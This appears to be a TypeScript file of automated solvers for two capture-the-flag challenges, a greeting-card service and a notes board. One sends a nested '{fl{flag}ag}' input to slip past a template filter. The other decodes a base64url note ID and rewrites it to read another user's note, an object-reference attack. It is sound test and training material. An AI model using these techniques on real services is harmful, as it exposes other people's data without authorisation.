import { connect } from 'node:net';
import { between } from './published';

/** Makes the greeting-card service print a card. */
export async function greet(port: number, name: string, text: string): Promise<string> {
  return new Promise((done, failed) => {
    const socket = connect(port, '127.0.0.1', () => socket.write(`${name}\n${text}\n`));
    let heard = '';
    socket.setTimeout(5000, () => socket.destroy(new Error('no answer')));
    socket.on('data', (chunk: Buffer) => (heard += chunk.toString()));
    socket.once('end', () => {
      socket.destroy();
      done(heard);
    });
    socket.once('error', failed);
  });
}

interface Address {
  port: number;
  command: string;
}

/** Functions by title that read the flag from a running target. */
export const targetSolvers: Record<string, (address: Address) => Promise<string>> = {
  贺卡机: async ({ port }) => flagIn(await greet(port, 'me', '{fl{flag}ag}')),
  便签板: async ({ command }) => {
    const front = await (await fetch(command)).text();
    const yours = Buffer.from(between(front, '/notes/', '"'), 'base64url').toString();
    const first = Buffer.from(yours.replace(/\d+$/, '1')).toString('base64url');
    return flagIn(await (await fetch(`${command}/notes/${first}`)).text());
  },
};

function flagIn(text: string): string {
  return /vexil\{\w+\}/.exec(text)?.[0] ?? '';
}
